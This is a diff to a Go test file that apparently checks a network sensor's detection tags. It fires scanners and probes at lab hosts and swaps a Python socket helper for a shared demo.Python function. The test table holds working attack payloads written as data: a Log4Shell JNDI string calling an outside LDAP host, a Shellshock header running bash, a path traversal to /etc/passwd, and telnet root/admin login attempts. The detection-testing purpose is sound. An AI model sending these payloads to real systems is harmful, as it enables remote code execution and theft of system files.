@@ -17,6 +17,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/vantagehq/vantage/internal/demo"
 	"github.com/vantagehq/vantage/internal/lab"
 	"github.com/vantagehq/vantage/internal/testbin"
 	"github.com/vantagehq/vantage/record"
@@ -467,22 +468,6 @@ type toolRun struct {
 	want []string
 }
 
-// pyRaw sends bytes over TCP or UDP with python3 and reads what comes back:
-// for protocols whose clients are not installed in the lab.
-func pyRaw(proto, dst string, port int, payloads ...string) []string {
-	script := fmt.Sprintf(`import socket,sys,time
-s=socket.socket(socket.AF_INET, socket.SOCK_%s)
-s.settimeout(3)
-s.connect((%q,%d))
-for p in sys.argv[1:]:
-    s.send(p.encode('latin-1').decode('unicode_escape').encode('latin-1'))
-    try: s.recv(4096)
-    except Exception: pass
-    time.sleep(0.2)
-s.close()`, map[string]string{"tcp": "STREAM", "udp": "DGRAM"}[proto], dst, port)
-	return append([]string{"python3", "-c", script}, payloads...)
-}
-
 func TestSensorTagsRealTools(t *testing.T) {
 	needLab(t)
 	for _, tool := range []string{"zmap", "masscan", "nmap", "curl", "ssh", "redis-cli", "python3", "ping"} {
@@ -506,10 +491,10 @@ func TestSensorTagsRealTools(t *testing.T) {
 		{"curl, browser", d(5), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", browser, "http://" + d(5) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER"}},
 		{"curl, scanner UA", d(6), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "Mozilla/5.0 zgrab/0.x", "http://" + d(6) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "ZGRAB"}},
 		{"ssh", d(7), []string{"ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "root@" + d(7), "true"}, []string{"TCP_SYN", "SSH_SCANNER"}},
-		{"sip OPTIONS (svmap-style)", d(8), pyRaw("udp", d(8), 5060, `OPTIONS sip:100@`+d(8)+` SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.10:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\nFrom: "sipvicious"<sip:100@192.0.2.10>;tag=1\r\nTo: "sipvicious"<sip:100@192.0.2.10>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`), []string{"UDP_PROBE", "SIP_SCANNER", "SIPVICIOUS"}},
-		{"rdp X.224", d(9), pyRaw("tcp", d(9), 3389, `\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00`), []string{"TCP_SYN", "RDP_SCANNER"}},
+		{"sip OPTIONS (svmap-style)", d(8), demo.Python("", "udp", d(8), 5060, `OPTIONS sip:100@`+d(8)+` SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.10:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\nFrom: "sipvicious"<sip:100@192.0.2.10>;tag=1\r\nTo: "sipvicious"<sip:100@192.0.2.10>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`), []string{"UDP_PROBE", "SIP_SCANNER", "SIPVICIOUS"}},
+		{"rdp X.224", d(9), demo.Python("", "tcp", d(9), 3389, `\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00`), []string{"TCP_SYN", "RDP_SCANNER"}},
 		{"redis-cli", d(10), []string{"redis-cli", "-h", d(10), "-p", "6379", "INFO"}, []string{"TCP_SYN", "REDIS_SCANNER"}},
-		{"telnet login", d(11), pyRaw("tcp", d(11), 23, `root\r\n`, `admin\r\n`), []string{"TCP_SYN", "TELNET_SCANNER", "TELNET_LOGIN_ATTEMPT"}},
+		{"telnet login", d(11), demo.Python("", "tcp", d(11), 23, `root\r\n`, `admin\r\n`), []string{"TCP_SYN", "TELNET_SCANNER", "TELNET_LOGIN_ATTEMPT"}},
 		{"log4shell", d(12), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "X-Api-Version: ${jndi:ldap://198.51.100.1:1389/a}", "http://" + d(12) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "LOG4SHELL"}},
 		{"shellshock", d(13), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "() { :; }; /bin/bash -c 'id'", "http://" + d(13) + "/cgi-bin/status"}, []string{"TCP_SYN", "HTTP_SCANNER", "SHELLSHOCK"}},
 		{"path traversal", d(14), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "--path-as-is", "http://" + d(14) + "/../../../../etc/passwd"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "PATH_TRAVERSAL"}},
